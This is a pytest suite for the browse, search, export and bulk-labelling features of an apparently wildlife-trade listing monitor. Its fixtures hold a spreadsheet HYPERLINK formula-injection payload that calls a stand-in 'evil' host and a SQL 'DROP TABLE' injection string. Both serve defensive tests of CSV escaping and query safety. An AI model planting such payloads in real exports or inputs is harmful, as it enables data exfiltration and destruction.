"""Browse and search every listing: search in any script, facets, sorting, pages, the
HTML/JSON/CSV twins, saved views and bulk labels (form and API), on SQLite and
PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from web_seed import WebEnv, login, make_env

from wildtrace.app import browse_actions
from wildtrace.records import ListingDraft
from wildtrace.store import Store, content_key
from wildtrace.store.browse import BrowseFilter

EXTRA = [
    ListingDraft(source="taobao", title="出售象牙手镯", description="正品 老料",
                 posted="2024-06-01", seller="象牙阁", location="广州"),
    ListingDraft(source="kaidee", title="", description="ขายงาช้างแท้ ราคาถูก ส่งฟรี",
                 posted="", seller="", location="Bangkok"),
    ListingDraft(source="forumx", title='=HYPERLINK("http://evil/?"&A1,"x")',
                 description="ox bone carving", posted="2024-06-03", seller="mallory"),
]


@pytest.fixture
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebEnv]:
    e = make_env(tmp_path_factory.mktemp("browse") / "ws")
    e.ws.store.add_listings([(d, content_key(d)) for d in EXTRA])
    yield e
    e.ws.close()


def api(env: WebEnv, query: str = "", user: str = "ana") -> dict:  # type: ignore[type-arg]
    resp = env.client().get("/api/browse" + ("?" + query if query else ""),
                            headers=env.token(user))
    assert resp.status_code == 200, resp.text
    return resp.json()  # type: ignore[no-any-return]


def titles(body: dict) -> list[str]:  # type: ignore[type-arg]
    return [i["headline"] for i in body["items"]]


def facet(body: dict, name: str) -> dict[str, int]:  # type: ignore[type-arg]
    found = next(f for f in body["facets"] if f["name"] == name)
    return {v["value"]: v["count"] for v in found["values"]}


@pytest.mark.parametrize("q,expected", [
    ("象牙", ["出售象牙手镯"]),  # two characters: below the trigram, a LIKE
    ("出售象牙", ["出售象牙手镯"]),  # inside one unbroken CJK run
    ("手镯 出售", ["出售象牙手镯"]),  # every word, in any order
    ("งาช้าง", ["ขายงาช้างแท้ ราคาถูก ส่งฟรี"]),  # Thai, no spaces between words
    ("IVORY bangle", ["Carved ivory bangle, old stock"]),  # case folded
    ("ox", ['=HYPERLINK("http://evil/?"&A1,"x")']),
    ('"; DROP TABLE listings; --', []),
])
def test_search_finds_words_in_any_script(env: WebEnv, q: str, expected: list[str]) -> None:
    assert titles(api(env, "q=" + q)) == expected


def test_browse_lists_every_listing_not_only_flagged(env: WebEnv) -> None:
    body = api(env)
    assert body["total"] == 7  # four seeded (one not flagged) and three never assessed
    assert facet(body, "verdict") == {"flagged": 3, "unassessed": 3, "not_flagged": 1}
    assert body["items"][0]["id"] > body["items"][-1]["id"]  # newest first


def test_facets_count_the_filtered_set(env: WebEnv) -> None:
    body = api(env, "platform=shopmart")
    assert body["total"] == 2
    assert facet(body, "appendix") == {"I": 2}
    assert facet(body, "taxon") == {"Loxodonta africana": 1, "Rhinocerotidae": 1}
    assert facet(body, "country") == {"VN": 1, "CN": 1}
    every = api(env)
    assert facet(every, "month")["unknown"] == 1  # an unknown date is counted apart
    assert facet(every, "label") == {"none": 7}
    selected = [v for f in body["facets"] for v in f["values"] if v["selected"]]
    assert [(v["value"], v["toggle"]) for v in selected] == [("shopmart", "")]


def test_every_facet_filters(env: WebEnv) -> None:
    for query, n in [("taxon=loxodonta", 2), ("appendix=I", 3), ("appendix=none", 4),
                     ("language=zh", 1), ("country=TH", 1), ("seller=hornking", 1),
                     ("verdict=unassessed", 3), ("label=none", 7),
                     ("date_from=2024-04-01&date_to=2024-04-30", 2),
                     ("date_from=2024-06-01", 2), ("q=rhino&appendix=I", 1)]:
        assert api(env, query)["total"] == n, query


def test_sort_columns_and_pages(env: WebEnv) -> None:
    prices = [i["price"] for i in api(env, "sort=price&dir=asc")["items"]]
    assert prices == [10.0, 90.0, 350.0, 2000.0, None, None, None]  # unknown last
    scores = [i["score"] for i in api(env, "sort=score")["items"]][:4]
    assert scores == sorted(scores, reverse=True)
    first = api(env, "sort=title&dir=asc&per_page=3")
    second = api(env, first["next"])
    assert first["next"] == "sort=title&dir=asc&page=2&per_page=3"
    assert second["previous"] == "sort=title&dir=asc&per_page=3"
    assert len({i["id"] for i in first["items"] + second["items"]}) == 6
    bad = env.client().get("/api/browse?sort=password", headers=env.token("ana"))
    assert bad.status_code == 422 and bad.json()["error"]["code"] == "validation"


def test_html_json_and_csv_are_twins(env: WebEnv) -> None:
    c = env.client()
    login(c, "ana")
    query = "verdict=unassessed&dir=asc"
    body = c.get("/api/browse?" + query).json()
    assert body["csv"] == "/browse.csv?" + query and body["html"] == "/browse?" + query
    page = c.get("/browse?" + query).text
    for item in body["items"]:
        assert f'href="/listings/{item["id"]}"' in page
    assert 'href="/browse.csv?verdict=unassessed&amp;dir=asc"' in page
    resp = c.get("/browse.csv?" + query)
    assert resp.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    assert [int(r["id"]) for r in rows] == [i["id"] for i in body["items"]]
    assert rows[2]["title"].startswith("'=HYPERLINK")  # formula-safe
    assert rows[1]["title"].startswith("ขายงาช้าง")  # no title: the start of the text
    assert rows[0]["price"] == ""


def test_browse_page_escapes_listing_text(env: WebEnv) -> None:
    c = env.client()
    login(c, "ana")
    page = c.get("/browse?q=alert").text
    assert "<script>alert" not in page and "<b>evil</b>" not in page
    assert "&lt;script&gt;alert" in page


def test_browse_needs_a_login_and_is_audited(env: WebEnv) -> None:
    assert env.client().get("/api/browse").status_code == 401
    resp = env.client().get("/browse?q=x", follow_redirects=False)
    assert resp.status_code == 303 and resp.headers["location"].startswith("/login")
    assert env.client().get("/browse.csv", follow_redirects=False).status_code == 303
    api(env, "q=ivory", user="vic")
    entry = env.ws.store.audit.entries(user="vic", action="view")[0]
    assert entry.object_kind == "browse" and entry.detail["query"] == "q=ivory"
    assert entry.detail["count"] == 1 and entry.detail["via"] == "api"


def test_saved_views_per_user_with_twins(env: WebEnv) -> None:
    c = env.client()
    csrf = login(c, "ana")
    resp = c.post("/browse/views", data={"name": "Thai ivory", "query": "country=TH&page=3",
                                         "csrf_token": csrf}, follow_redirects=False)
    assert resp.status_code == 303 and resp.headers["location"] == "/browse?country=TH"
    assert c.post("/browse/views", data={"name": "x", "query": "", "csrf_token": "no"}
                  ).status_code == 403
    page = c.get("/browse").text
    assert 'href="/browse?country=TH">Thai ivory</a>' in page
    assert 'href="/api/browse?country=TH"' in page
    views = c.get("/api/browse/views").json()
    assert views == [{"name": "Thai ivory", "query": "country=TH", "html": "/browse?country=TH",
                      "json_url": "/api/browse?country=TH", "csv": "/browse.csv?country=TH"}]
    assert env.client().get("/api/browse/views", headers=env.token("vic")).json() == []
    saved = env.client().post("/api/browse/views", headers=env.token("vic"),
                              json={"name": "mine", "query": "q=象牙"}).json()
    assert saved["json_url"] == "/api/browse?q=%E8%B1%A1%E7%89%99"
    c.post("/browse/views/delete", data={"name": "Thai ivory", "csrf_token": csrf})
    assert c.get("/api/browse/views").json() == []


def test_bulk_label_a_filtered_set(env: WebEnv) -> None:
    c = env.client()
    csrf = login(c, "ana")
    page = c.get("/browse?platform=shopmart").text
    assert 'name="expected" value="2"' in page and 'data-confirm="Label all 2' in page
    form = {"label": "reject", "query": "platform=shopmart", "csrf_token": csrf,
            "note": "toy shop"}
    stale = c.post("/browse/label", data={**form, "expected": "3"})
    assert stale.status_code == 409 and "now holds 2" in stale.text
    assert api(env, "label=reject")["total"] == 0
    done = c.post("/browse/label", data={**form, "expected": "2"}, follow_redirects=False)
    assert done.headers["location"] == "/browse?platform=shopmart&labelled=2"
    assert api(env, "label=reject")["total"] == 2
    entry = env.ws.store.audit.entries(action="label")[0]
    assert entry.detail["count"] == 2 and entry.user == "ana" and entry.object_id == "bulk"
    assert c.post("/browse/label", data={**form, "expected": "2", "csrf_token": "x"}
                  ).status_code == 403


def test_bulk_label_roles_and_cap(env: WebEnv, monkeypatch: pytest.MonkeyPatch) -> None:
    body = {"query": "verdict=unassessed", "label": "unsure", "expected": 3}
    viewer = env.client().post("/api/browse/labels", json=body, headers=env.token("vic"))
    assert viewer.status_code == 403
    monkeypatch.setattr(browse_actions, "MAX_BULK", 2)
    capped = env.client().post("/api/browse/labels", json=body, headers=env.token("ana"))
    assert capped.status_code == 409 and "more than 2" in capped.json()["error"]["message"]
    monkeypatch.setattr(browse_actions, "MAX_BULK", 5000)
    ok = env.client().post("/api/browse/labels", json=body, headers=env.token("ana"))
    assert ok.json() == {"labelled": 3, "label": "unsure"}
    assert facet(api(env), "label") == {"none": 4, "unsure": 3}


def test_postgres_search_in_any_script(pg_store: Store) -> None:
    pg_store.add_listings([(d, content_key(d)) for d in EXTRA])
    for q, n in (("象牙", 1), ("出售象牙", 1), ("งาช้าง", 1), ("OX", 1), ("nothing", 0)):
        assert len(pg_store.browse.ids(BrowseFilter(q=q), 10)) == n, q
    total, facets = pg_store.browse.facets(BrowseFilter())
    assert total == 3 and dict(facets["platform"]) == {"taobao": 1, "kaidee": 1, "forumx": 1}
